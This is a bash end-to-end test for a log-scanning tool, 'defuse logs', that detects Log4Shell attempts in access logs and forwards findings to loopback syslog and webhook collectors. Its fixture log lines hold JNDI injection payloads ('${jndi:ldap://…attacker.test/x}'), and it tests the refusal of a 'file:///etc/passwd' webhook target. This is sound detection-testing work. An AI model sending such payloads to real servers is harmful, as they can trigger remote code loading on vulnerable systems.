#!/usr/bin/env bash
# logs_sinks.sh -- `defuse logs --syslog=... --webhook=...`: findings go to
# real loopback collectors (the honeypot tests' peers: an HTTP server, a UDP
# and a TCP syslog receiver with RFC 6587 octet counting) as RFC 5424
# messages with the finding's JSON as MSG and as JSON POSTs, through the
# sinks shared with the honeypot; a collector that is down makes the exit
# status 2 with the count of lost findings; --omprog speaks rsyslog's
# omprog confirmation protocol (an OK when ready, then one per line).
source "$(dirname "$0")/logs_lib.bash"
: "${DEFUSE_SRC:?DEFUSE_SRC must name the source tree}"
PEERS="python3 $DEFUSE_SRC/tests/e2e/honeypot/peers.py"
command -v python3 >/dev/null || { echo "SKIP: python3 missing"; exit 77; }

$PEERS webhook "$T/wh.port" "$T/webhook.out" 1 & PIDS+=($!)
$PEERS syslog-udp "$T/su.port" "$T/sysudp.out" & PIDS+=($!)
$PEERS syslog-tcp "$T/st.port" "$T/systcp.out" & PIDS+=($!)
for f in wh su st; do
    for i in $(seq 1 100); do [ -s "$T/$f.port" ] && break; sleep 0.05; done
done
WH=http://127.0.0.1:$(cat "$T/wh.port")/hook
SU=udp://127.0.0.1:$(cat "$T/su.port")
ST=tcp://127.0.0.1:$(cat "$T/st.port")

N=7
{
    for i in $(seq 1 $N); do
        echo "10.0.0.$i - - [10/Dec/2021:13:00:0$i +0000] \"GET /?q=\${jndi:ldap://m$i.attacker.test/x} HTTP/1.1\" 200 1"
        echo "10.0.0.$i - - [10/Dec/2021:13:00:0$i +0000] \"GET /ok HTTP/1.1\" 200 1"
    done
} >"$T/access.log"

wait_count() { # file pattern n
    local i
    for i in $(seq 1 100); do
        [ "$(grep -c -- "$2" "$1" 2>/dev/null || true)" -ge "$3" ] && return 0
        sleep 0.05
    done
    return 1
}

"$DEFUSE" logs --syslog="$SU" --syslog="$ST" --webhook="$WH" "$T/access.log" >"$T/out" 2>"$T/err"
expect_rc 1 $? "findings with sinks still exit 1"
[ "$(grep -c 'jndi' "$T/out")" -eq $N ] && ok "stdout keeps the human findings" || fail "stdout: $(cat "$T/out")"
for f in sysudp systcp webhook; do
    wait_count "$T/$f.out" 'attacker' $N || true
    n=$(grep -c 'attacker' "$T/$f.out" 2>/dev/null || echo 0)
    [ "$n" -eq $N ] && ok "$f: $N findings delivered" || fail "$f: $n findings, want $N"
    if grep -qF '${' "$T/$f.out"; then fail "$f: a live \${ reached the collector"; fi
done
[ "$(grep -c . "$T/webhook.out.failed" 2>/dev/null)" -eq 1 ] && ok "webhook: a failed POST is retried" ||
    fail "webhook: the first POST should have failed and been retried"
python3 - "$T" $N <<'PY' && ok "RFC 5424 messages carry the finding as JSON; webhook bodies are the JSON" || fail "message format"
import json, re, sys
t, n = sys.argv[1], int(sys.argv[2])
hosts = set()
for f in ("sysudp", "systcp"):
    for line in open(f"{t}/{f}.out"):
        m = re.match(r'^<(\d+)>1 (\d{4}-\d\d-\d\dT[0-9:.]+Z) (\S+) defuse-logs (\d+) finding - (\{.*\})$', line.rstrip("\n"))
        assert m, (f, line)
        assert m.group(1) == "132", line   # local0 (16) * 8 + warning (4)
        ev = json.loads(m.group(5))
        assert ev["kind"] == "jndi" and ev["file"].endswith("access.log"), ev
        assert ev["src_ip"].startswith("10.0.0."), ev
        hosts.add((f, ev["host"]))
for line in open(f"{t}/webhook.out"):
    ev = json.loads(line)
    assert ev["kind"] == "jndi" and ev["line"] % 2 == 1, ev
    hosts.add(("wh", ev["host"]))
assert len(hosts) == 3 * n, hosts
PY

# --follow: a finding appended to a followed file reaches the collectors at
# once (a live pipeline cannot wait for more findings to fill a batch)
: >"$T/live.log"
: >"$T/sysudp.out"
"$DEFUSE" logs -q -F --syslog="$SU" "$T/live.log" >/dev/null 2>"$T/err-live" &
LIVE=$!
PIDS+=($LIVE)
sleep 0.5
echo '10.9.9.9 - - [10/Dec/2021:13:00:00 +0000] "GET /?q=${jndi:ldap://live1.attacker.test/x} HTTP/1.1" 200 1' >>"$T/live.log"
if wait_count "$T/sysudp.out" 'live1' 1; then ok "--follow: an appended finding reaches the collector at once"
else fail "--follow: the finding of an appended line did not reach the collector within 5 s"; fi
kill -TERM $LIVE; wait $LIVE
expect_rc 1 $? "--follow with --syslog: SIGTERM ends the run with the findings' status"

# a collector that is down: the findings are lost, and said so (exit 2)
read -r DEAD < <($PEERS freeports 1)
"$DEFUSE" logs -q --syslog=tcp://127.0.0.1:$DEAD "$T/access.log" >"$T/out2" 2>"$T/err2"
expect_rc 2 $? "a collector that is down is an error"
expect_grep "syslog_tcp" "$T/err2" "the failing sink is named"
expect_grep "$N findings not delivered" "$T/err2" "the lost findings are counted"

# bad outputs are refused before anything is read
for bad in "--syslog=ftp://127.0.0.1:1" "--syslog=udp://127.0.0.1" "--syslog=tcp://:99999x" "--webhook=file:///etc/passwd"; do
    "$DEFUSE" logs "$bad" "$T/access.log" >/dev/null 2>"$T/err3"
    rc=$?
    [ $rc -eq 2 ] && grep -q "defuse logs: --" "$T/err3" && ok "refused: $bad" || fail "$bad: exit $rc, $(cat "$T/err3")"
done
"$DEFUSE" logs --omprog "$T/access.log" >/dev/null 2>"$T/err4"
expect_rc 2 $? "--omprog without --syslog/--webhook is refused"

# --omprog: OK when ready, then one OK per line, each after its findings went out
: >"$T/systcp.out"
python3 - "$DEFUSE" "$ST" "$T/access.log" "$T/systcp.out" <<'PY' && ok "--omprog: OK at start and per line, findings delivered before each OK" || fail "--omprog protocol"
import subprocess, sys, time
defuse, st, log, out = sys.argv[1:]
p = subprocess.Popen([defuse, "logs", "--omprog", "--syslog=" + st], stdin=subprocess.PIPE,
                     stdout=subprocess.PIPE, bufsize=0)
assert p.stdout.readline() == b"OK\n", "no OK at start"
lines = open(log, "rb").read().splitlines()
for i, l in enumerate(lines):
    p.stdin.write(l + b"\n")
    assert p.stdout.readline() == b"OK\n", f"no OK for line {i}"
    if b"jndi" in l:
        want = l.split(b"ldap://")[1].split(b".")[0]  # m<N>
        for _ in range(100):
            if want + b"[.]" in open(out, "rb").read() or want + b".attacker" in open(out, "rb").read():
                break
            time.sleep(0.02)
        else:
            raise SystemExit(f"finding of line {i} not at the collector after its OK")
p.stdin.close()
assert p.stdout.read() == b"", "output after EOF"
assert p.wait(10) == 0, "exit status"
PY
finish
